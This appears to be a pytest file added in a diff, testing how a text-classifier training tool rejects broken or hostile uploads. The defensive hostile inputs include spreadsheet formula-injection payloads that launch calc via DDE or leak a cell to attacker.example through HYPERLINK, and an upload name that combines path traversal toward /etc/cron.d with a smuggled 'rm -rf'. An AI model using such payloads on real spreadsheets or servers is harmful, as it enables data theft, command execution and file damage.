@@ -1,0 +1,256 @@
+"""Hostile or broken data through the engine, the CLI and the app's uploads: empty, not UTF-8, no usable
+columns, empty texts, one class, mixed label types, very long texts, oversized uploads, hostile file names,
+and spreadsheet formulas (only text to training; neutralised in the Compare page's CSV export).
+"""
+
+import csv
+import io
+import json
+
+import pytest
+from app_support import alerts, app_home, error_after, open_app, run_until  # noqa: F401
+from attack_support import TINY, TINY_ARGS, assert_one_error_line, cli, one_torch_thread  # noqa: F401
+
+from gradacc.compare import FORMULA_STARTS
+from gradacc.config import RunConfig
+from gradacc.data import load_text_data
+from gradacc.engine import train
+from gradacc.errors import GradaccError
+from gradacc.events import Recorder
+
+RUN_TIMEOUT_S = 120
+UPLOAD = "upload a CSV / JSONL file"
+FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click\")"]
+LONG_TEXT = " ".join(f"word{i}" for i in range(200))  # far more than 32 tokens
+
+
+def table(rows, header="text,label") -> bytes:
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(header.split(","))
+    writer.writerows(rows)
+    return out.getvalue().encode("utf-8")
+
+
+def reviews(n=60):
+    return [(f"the movie was {'great' if i % 2 else 'awful'} number {i}", "pos" if i % 2 else "neg") for i in range(n)]
+
+
+def jsonl(records) -> bytes:
+    return "\n".join(json.dumps(r) for r in records).encode("utf-8")
+
+
+ONE_COLUMN = table([(t,) for t, _ in reviews()], header="text")
+# name, content, field the refusal belongs to, what it says
+BAD_FILES = [
+    ("empty.csv", b"", "dataset", "is empty"),
+    ("latin1.csv", "text,label\ncaf\xe9 cr\xe8me,1\nna\xefve,0\n".encode("latin-1"), "dataset", "is not UTF-8 text"),
+    ("no-label.csv", ONE_COLUMN, "label_column",
+     "Could not find a label column (looked for label, labels, target, class, sentiment, category); columns are text."),
+    ("no-text.csv", table([(i, i % 2) for i in range(20)], header="id,stars"), "text_column",
+     "Could not find a text column"),
+    ("empty-texts.csv", table([("", "pos"), ("   ", "neg"), ("", "neg")]), "dataset",
+     "No row has both a non-empty text and a label."),
+    ("one-class.csv", table([(t, "pos") for t, _ in reviews()]), "label_column",
+     "Every row has the same label ('pos')"),
+    ("mixed.jsonl", jsonl([{"text": t, "label": 1 if i % 2 else "neg"} for i, (t, _) in enumerate(reviews())]),
+     "label_column", "Labels mix numbers and text"),
+]
+
+
+@pytest.fixture
+def data_dir(tmp_path, monkeypatch):
+    monkeypatch.setenv("GRADACC_DATA_DIRS", str(tmp_path))
+    return tmp_path
+
+
+# ---- the engine ----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name,content,field,message", BAD_FILES, ids=[f[0] for f in BAD_FILES])
+def test_engine_refuses_bad_data_naming_the_field(name, content, field, message, data_dir):
+    path = data_dir / name
+    path.write_bytes(content)
+    with pytest.raises(GradaccError) as raised:
+        load_text_data(RunConfig(dataset=str(path), **TINY))
+    assert message in raised.value.message
+    assert raised.value.field == field
+
+
+def test_formula_like_cells_are_only_text_to_training(data_dir, one_torch_thread):
+    rows = [(FORMULAS[i % len(FORMULAS)] + f" row {i}", "=A1" if i % 2 else "+B2") for i in range(60)]
+    path = data_dir / "formulas.csv"
+    path.write_bytes(table(rows))
+    data = load_text_data(RunConfig(dataset=str(path), **TINY))
+    assert set(data.train_texts + data.eval_texts) == {text for text, _ in rows}  # verbatim, nothing evaluated
+    assert data.label_names == ["+B2", "=A1"]
+    ended = train(RunConfig(dataset=str(path), **TINY))
+    assert ended["status"] == "completed", ended["reason"]
+
+
+def test_very_long_texts_are_truncated_and_the_run_says_so(data_dir, one_torch_thread):
+    path = data_dir / "long.csv"
+    path.write_bytes(table([(f"{LONG_TEXT} {i}" if i < 10 else t, l) for i, (t, l) in enumerate(reviews())]))
+    recorder = Recorder()
+    ended = train(RunConfig(dataset=str(path), **TINY), recorder)
+    assert ended["status"] == "completed", ended["reason"]
+    notes = recorder.of("run_started")[0]["notes"]
+    assert "10 text(s) longer than 32 tokens were truncated." in notes, notes
+
+
+def test_a_byte_order_mark_does_not_hide_a_column(data_dir):
+    """Excel's "CSV UTF-8" and some editors' JSONL start with a BOM."""
+    for name, content in (("bom.csv", table(reviews())), ("bom.jsonl", jsonl([{"text": t, "label": l}
+                                                                               for t, l in reviews()]))):
+        path = data_dir / name
+        path.write_bytes(b"\xef\xbb\xbf" + content)
+        assert load_text_data(RunConfig(dataset=str(path), **TINY)).label_names == ["neg", "pos"], name
+
+
+def test_rows_without_text_are_dropped_and_the_run_says_so(data_dir):
+    path = data_dir / "gaps.csv"
+    path.write_bytes(table(reviews() + [("", "pos"), ("  ", "neg")]))
+    assert "Dropped 2 row(s) with an empty text or label." in load_text_data(RunConfig(dataset=str(path), **TINY)).notes
+
+
+# ---- the command line ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name,content,field,message", BAD_FILES, ids=[f[0] for f in BAD_FILES])
+def test_cli_refuses_bad_data_with_one_error_line(name, content, field, message, data_dir, capsys, one_torch_thread):
+    path = data_dir / name
+    path.write_bytes(content)
+    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path))
+    assert_one_error_line(code, out, err, 2, message)
+
+
+@pytest.mark.parametrize("args,message", [
+    (["--text-column", "body"], "There is no text column 'body'; columns are text, label."),
+    (["--label-column", "stars"], "There is no label column 'stars'; columns are text, label."),
+    (["--label-column", "text"], "The text and the label column are both 'text'"),
+])
+def test_cli_refuses_a_named_column_that_cannot_be_used(args, message, data_dir, capsys, one_torch_thread):
+    path = data_dir / "reviews.csv"
+    path.write_bytes(table(reviews()))
+    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path), *args)
+    assert_one_error_line(code, out, err, 2, message)
+
+
+def test_cli_refuses_data_outside_the_allowed_folders(data_dir, tmp_path_factory, capsys):
+    elsewhere = tmp_path_factory.mktemp("elsewhere") / "reviews.csv"
+    elsewhere.write_bytes(table(reviews()))
+    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(elsewhere))
+    assert_one_error_line(code, out, err, 2, "is outside the allowed folders")
+
+
+def test_cli_trains_on_long_texts_and_prints_the_truncation_note(data_dir, capsys, one_torch_thread):
+    path = data_dir / "long.csv"
+    path.write_bytes(table([(f"{LONG_TEXT} {i}", l) for i, (_, l) in enumerate(reviews())]))
+    code, out, err = cli(capsys, "train", *TINY_ARGS, "--dataset", str(path))
+    assert code == 0, err
+    assert "note: 60 text(s) longer than 32 tokens were truncated." in out.splitlines()
+
+
+# ---- the app -------------------------------------------------------------------------------------
+
+def upload(at, name: str, content: bytes, mime: str = "text/csv"):
+    at.selectbox(key="form.train.dataset_choice").set_value(UPLOAD).run()
+    at.file_uploader[0].set_value((name, content, mime)).run()
+    assert not at.exception, [e.value for e in at.exception]
+    return at
+
+
+def picker_key(at, label: str) -> str:
+    return next(s.key for s in at.selectbox if s.label == label)
+
+
+# The app's column pickers only offer columns the file has, and pre-select the first and last when no name
+# matches (no-text.csv: id and stars, shown to the visitor); a one-column file puts that column in both.
+APP_BAD_FILES = [f for f in BAD_FILES if f[0] not in ("no-text.csv", "no-label.csv")] + [
+    ("no-label.csv", ONE_COLUMN, "label_column", "The text and the label column are both 'text'"),
+]
+
+
+@pytest.mark.parametrize("name,content,field,message", APP_BAD_FILES, ids=[f[0] for f in APP_BAD_FILES])
+def test_app_refuses_a_bad_upload_next_to_the_right_field(name, content, field, message, app_home):
+    at = upload(open_app(), name, content, "application/json" if name.endswith("jsonl") else "text/csv")
+    widget = {"dataset": "train.upload", "text_column": picker_key(at, "Text column") if field == "text_column"
+              else None, "label_column": picker_key(at, "Label column") if field == "label_column" else None}[field]
+    shown = error_after(at, widget)
+    assert shown is not None and message in shown, (shown, alerts(at))
+    assert at.button(key="start").disabled
+    # The page is still usable: back to the built-in data, and Start is enabled again.
+    at.selectbox(key="form.train.dataset_choice").set_value("builtin-sentiment").run()
+    assert not at.exception and not at.button(key="start").disabled
+
+
+def test_app_refuses_an_upload_over_the_size_cap_and_keeps_nothing(app_home, monkeypatch):
+    monkeypatch.setenv("GRADACC_MAX_UPLOAD_MB", "0.001")  # 1000 bytes
+    content = table(reviews(200))
+    assert len(content) > 1000
+    at = upload(open_app(), "big.csv", content)
+    assert f"'big.csv' is {len(content) / 1e6:.1f} MB; this deployment accepts uploads up to 0.001 MB." in \
+        error_after(at, "train.upload")
+    assert at.button(key="start").disabled
+    assert not list((app_home / "uploads").glob("*.csv")), "an oversized upload must not be written to disk"
+
+
+def test_app_stores_an_upload_under_a_safe_name_whatever_it_is_called(app_home):
+    at = upload(open_app(), "../../../../etc/cron.d/evil name;rm -rf.csv", table(reviews()))
+    saved = [p for p in (app_home / "uploads").iterdir() if not p.name.startswith(".")]
+    assert len(saved) == 1 and saved[0].parent == app_home / "uploads"
+    assert saved[0].name.startswith("evil_name_rm_-rf-") and saved[0].suffix == ".csv"
+    assert not at.error and not at.button(key="start").disabled
+
+
+def test_app_trains_on_long_texts_and_shows_the_truncation_note(app_home, one_torch_thread):
+    at = upload(open_app(), "long.csv", table([(f"{LONG_TEXT} {i}", l) for i, (_, l) in enumerate(reviews())]))
+    for field, value in TINY.items():
+        at.number_input(key=f"form.train.{field}").set_value(value)
+    at.run()
+    at.button(key="start").click().run()
+    run_until(at, lambda at: bool(at.success), RUN_TIMEOUT_S, "the run to complete")
+    captions = [c.value for c in at.caption]
+    assert "ℹ️ 60 text(s) longer than 32 tokens were truncated." in captions, captions
+
+
+@pytest.fixture
+def captured_downloads(monkeypatch):
+    """What every download button on the page would hand the browser, by file name."""
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    files = {}
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def keep(self, path_or_data, mimetype, kind, filename=None):
+        files[filename] = path_or_data
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
+    return files
+
+
+def test_formula_cells_train_as_text_and_the_compare_csv_neutralises_formulas(app_home, captured_downloads,
+                                                                               one_torch_thread):
+    rows = [(FORMULAS[i % len(FORMULAS)] + f" row {i}", "=A1" if i % 2 else "+B2") for i in range(60)]
+    at = upload(open_app(), "-2+3.csv", table(rows))  # saved as -2_3-<hash>.csv: a leading minus survives
+    for field, value in TINY.items():
+        at.number_input(key=f"form.train.{field}").set_value(value)
+    at.run()
+    at.button(key="start").click().run()
+    run_until(at, lambda at: bool(at.success), RUN_TIMEOUT_S, "the formula run to complete")
+    # A second visitor names a "model" that is a formula; the run fails (offline), but it is in Compare.
+    other = open_app()
+    other.selectbox(key="form.train.model_choice").set_value("other: hub id or local folder").run()
+    other.text_input(key="form.train.model_custom").set_value(FORMULAS[4]).run()
+    other.button(key="start").click().run()
+    run_until(other, lambda at: bool(at.error), RUN_TIMEOUT_S, "the formula-named run to fail")
+
+    compare = open_app("compare")
+    assert not compare.exception
+    exported = captured_downloads["gradacc-runs.csv"]
+    exported = exported.decode() if isinstance(exported, bytes) else exported
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert not dangerous, dangerous
+    assert "'" + FORMULAS[4] in cells  # the model column, quoted, not dropped
+    assert any(cell.startswith("'-2_3-") and cell.endswith(".csv") for cell in cells)  # the dataset column
